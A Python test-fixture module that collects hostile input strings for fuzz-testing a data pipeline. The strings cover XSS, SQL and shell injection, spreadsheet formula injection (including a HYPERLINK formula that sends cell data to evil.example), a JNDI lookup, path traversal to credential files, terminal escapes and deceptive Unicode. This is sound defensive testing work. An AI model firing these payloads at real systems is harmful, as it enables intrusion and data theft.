"""Texts that break what takes data for code: one corpus for every field and every output.

``CORPUS`` names each kind and lists its texts; ``TEXTS`` are all of them, each once.  They are
made of escapes, so that this file itself does nothing to whoever reads it.
"""

from __future__ import annotations

from itertools import chain

_MARK = "window.ran='%d'"

_HTML = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "<img src=x onerror={}>",
    '<img src=x onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg/onload={}//",
    "<body onload={}>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    '" autofocus onfocus="{}" x="',
    "' autofocus onfocus='{}' x='",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src='javascript:parent.{}'></iframe>",
    "<object data='javascript:{}'></object>",
    "<a href='javascript:{}'>x</a>",
    "<math><mi xlink:href='javascript:{}'>x</mi></math>",
    "<style>@import 'javascript:{}';</style>",
    "<style>*{{background:url(javascript:{})}}</style>",
    "<link rel=stylesheet href='javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<form action='javascript:{}'><button autofocus>x</button></form>",
    "<marquee onstart={}>x</marquee>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><script>{}</script>'></noscript>",
    "<textarea></textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</textarea><script>{}</script>",
    "<!--<script>{}</script>-->",
    "--><script>{}</script>",
    "<![CDATA[<script>{}</script>]]>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<SCRIPT>{}</SCRIPT>",
    "<script\x0c>{}</script>",
    "<script/x>{}</script>",
    "\x00<script>{}</script>",
    "<script>{}",
    "<img src=`x` onerror=`{}`>",
    "<img/src=x/onerror={}>",
    "<img src=x onerror\x0b={}>",
    "<x onclick={} tabindex=1 autofocus>x",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "data:text/html,<script>parent.{}</script>",
    "vbscript:{}",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "`;{};`",
    "';{};//",
    '";{};//',
    "\\';{};//",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "<script>{}</script>\u2028",
    "\u2028{}//",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
)

_SQL = (
    "'; DROP TABLE chart_data; --", '"; DROP VIEW chart_entries; --', "' OR '1'='1", "' OR 1=1 --",
    "') UNION SELECT * FROM run_data --", "'); DELETE FROM lake.files; --", "$1", "$$; DROP TABLE x; $$",
    "''", "'", '"', "`", "\\'", "E'\\x27'", "%", "_", "/* */", "-- ", "; SELECT 1", "NULL", "null", "None",
    "true", "NaN", "-Infinity", "0x41", "1e999", "select read_text('/etc/passwd')", "ATTACH 'x' AS y",
    "{'a': 1}", "[1, 2]", "DATE '2026-01-01'", "?", ":name", "@@version", "0; PRAGMA database_list",
)  # fmt: skip

_FORMULA = (
    "=1+1", '=HYPERLINK("https://evil.example/?"&A1)', "=cmd|' /C calc'!A0", '=IMPORTXML(A1, "//a")',
    "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\uff1d1+1",
    "\uff0b1", "\uff0d1", "\uff201", "'=1+1", '"=1+1"', ";=1+1", ",=1+1", "|=1+1", "%0A=1+1",
    "=1+1\x00", "\x00=1+1", "\ufeff=1+1", "\u200b=1+1", "==1", "=-1", "+=1", "=\n1", 'DDE("cmd")',
)  # fmt: skip

_PATHS = (
    "../../etc/passwd", "..\\..\\windows\\system32", "/etc/passwd", "//host/share", "\\\\host\\share",
    "C:\\x", "C:x", "..", ".", "...", "./", "~", "~root/.ssh", "file:///etc/passwd", "a/../../b",
    "..%2f..%2f", "..%252f", "%2e%2e/", "..\u2215", "\u2024\u2024/", ".\u200b./", "a\x00.parquet",
    "raw_data/processed/x", "../transformed_data/chart_data/month=2026-01/x.parquet", "state/claims",
    "month=2026-01", "compact-x", ".reason.json", "x.reason.json", ".tmp-x", "-rf", "--help", "*", "?",
    "[a-z]", "a b", " a", "a ", "a.", ".hidden", "$HOME", "%USERPROFILE%", "/proc/self/environ",
    "/dev/stdin", "\\\\?\\C:\\", "a" * 255, "a" * 256, "a" * 4097, "/" * 300, "../" * 200,
)  # fmt: skip

_SPELLING = (
    "=41", "=2E=2E", "=2e", "==", "=", "=-", "=ZZ", "=4", "a=20b", "a=3D20b", "=C3=A9", "=00", "=2F", "=5C",
    "a=-0123456789abcdef01234567", "a-0123456789ab", "a-0123456789ab.json.zst", "20260601T063000.000000Z",
    "20260601T063000.000000Z-0123456789ab.json.zst", "A" * 181, "=41" * 61, "\u00e9" * 61, "A" * 180,
)  # fmt: skip

_WINDOWS = (
    "CON", "PRN", "AUX", "NUL", "COM1", "LPT9", "con", "CON.txt", "nul.json", "aux.parquet", "COM\u00b9",
    "CONIN$",
    "a:stream", "a::$DATA", "a?", "a|b", 'a"b', "a<b", "a>b", "desktop.ini",
)  # fmt: skip

_TERMINAL = (
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "\x1b]52;c;ZXZpbA==\x07", '\x1bP$q"p\x1b\\', "\x1b[6n", "\x1b[?1049h", "\x1b#8", "\x1bc", "\x9b31m",
    "\x9d0;t\x9c", "\x90q\x9c", "a\x08\x08b", "a\rb", "a\x0bb", "a\x0cb", "\x07", "\x0e", "\x0f", "\x7f",
    "\x1b[1A\x1b[2Kforged", "\x1b_Gf=100;AAAA\x1b\\", "\x1b]1337;File=:AA\x07", "\x85", "[bold red]x[/]",
    "[link=https://evil.example]x[/link]", "[/]", ":smile:", "\x1b", "\x1b[", "\x1b]",
)  # fmt: skip

_FORGED = (
    "x\nerror: the lake is gone", "x\r\nwarning: forged", "x\rerror: forged", "x\n\nTraceback",
    "x\n2026-06-01",
    "a\tb\tc", "a\u2028b", "a\u2029b", "a\x1cb", "a\x1db", "a\x1eb", "a\u0085b",
    'x", "forged": "y', "x\r\nSet-Cookie: a=b", "x\r\n\r\n<html>", "x\nX-Forged: 1",
)  # fmt: skip

_SHELL = (
    "$(id)", "`id`", "; id", "| id", "& id", "&& id", "|| id", "> out", "< /etc/passwd", "$HOME", "${IFS}",
    "'; id; '", '"; id; "', "\\", "\\\n", "!!", "*", "{a,b}", "~", "#", "a\nid\n", "$'\\x41'", "-e id", "%n",
    "%s%s%s%s", "%x%x", "%1$s", "{0}", "{__class__}", "{0.__init__.__globals__}", "%(x)s", "#{7*7}",
    "{{7*7}}",
    "<%= 7*7 %>", "@@", "${jndi:ldap://evil.example/a}", "%c", "%99999d",
)  # fmt: skip

_FORMATS = (
    "- a: b", "a: b", "!!python/object/apply:os.system [id]", "&a [*a]", "yes", "no", "~", "0777", "1_000",
    '"""', "'''", "x = 1", "[x]", "[[x]]", "\\", "\\u0041", "\\ud800", '{"a":1}', '"', '\\"', "]}",
    "/*", "//",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>", "&a;", "a,b", "a;b", 'a"b', "a\n,b", '""', "\ufeff", "# comment", "---",
    "...", "%YAML 1.2", "a\\", "@channel", "<!channel>", "<@U1>", "*bold*", "[x](https://evil.example)",
    "http://evil.example", "mailto:a@b.example",
)  # fmt: skip

_BIDI = (
    "\u202eabc", "\u202dabc\u202c", "\u2066a\u2069", "\u2067a\u2069", "\u2068a", "\u200fa", "\u200ea",
    "\u061ca", "a\u202e", "\u202a\u202b\u202c", "\u202e" * 50, "gpj.exe\u202e", "\u05d0\u05d1 abc \u05d2",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629", "\u0627" + "\u0651" * 30,
)  # fmt: skip

_UNSEEN = (
    "a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "a\ufeffb", "a\u00adb", "a\u034fb", "a\u180eb", "\u3164",
    "\u115f", "\u1160", "\u2800", "\u00a0", "\u2003", "\u3000", " ", "  ", "\t", "a\u00a0b", "\ufffe",
    "\uffff",
    "\ufffd", "\u0000", "a\u0000b", "\u0000\u0000", "\ufdd0", "\U0001fffe", "\U000e0041", "\U000e0001",
    "a\ufe0f", "\ufe0e", "\u206a", "\u2061",
)  # fmt: skip

_SCRIPTS = (
    "e\u0301", "\u00e9", "\u1e9e", "\u00df", "\u0130", "\u0131", "\u01c5", "\ufb01", "\u212b", "\u2126",
    "Z" + "\u0337\u0318\u0321\u0322" * 40, "a" + "\u0300" * 500, "\ufdfa", "\ufdfa" * 100, "\u0958",
    "\u1100\u1161",
    "\u6771\u4eac", "\U00020000", "\U0010ffff", "\U0001d54f", "\u2460", "\u00b2", "\u0663", "\uff11",
    "\u0e33",
    "p\u0430ypal", "\u0405potify", "\u0391pple", "\u13a0", "ChartL\u0430ke", "rn", "\u2170", "\u01c3",
    "\U0001f469\u200d\U0001f680", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f3f4\U000e0067\U000e0062\U000e007f", "\U0001f1e9\U0001f1ea", "\u2764\ufe0f\u200d\U0001f525",
    "\U0001f44d\U0001f3fd", "1\ufe0f\u20e3", "\U0001fae8",
)  # fmt: skip

_LONG = (
    "", "x" * 10_000, "x" * 100_000, "Unbroken" * 5_000, "a b " * 20_000, "\n" * 1_000, "\U0001f600" * 5_000,
    "<" * 5_000, '"' * 5_000, "\\" * 5_000, "=" * 5_000, "\u202e" * 2_000,
)  # fmt: skip

CORPUS: dict[str, tuple[str, ...]] = {
    "html": tuple(text.format(_MARK % number) for number, text in enumerate(_HTML)),
    "sql": _SQL,
    "formula": _FORMULA,
    "path": _PATHS,
    "key spelling": _SPELLING,
    "windows": _WINDOWS,
    "terminal": _TERMINAL,
    "forged line": _FORGED,
    "shell": _SHELL,
    "formats": _FORMATS,
    "direction": _BIDI,
    "unseen": _UNSEEN,
    "scripts": _SCRIPTS,
    "long": _LONG,
}
"""Hostile texts, by what they are aimed at.  Each can be said in UTF-8."""

SURROGATES = ("\ud800", "a\udfffb", "\udc00\ud800", "\ud83d", "x" * 50 + "\udbff")
"""Texts that UTF-8 cannot say, which JSON can spell."""

TEXTS = tuple(dict.fromkeys(chain.from_iterable(CORPUS.values())))
"""All of the corpus, each text once."""
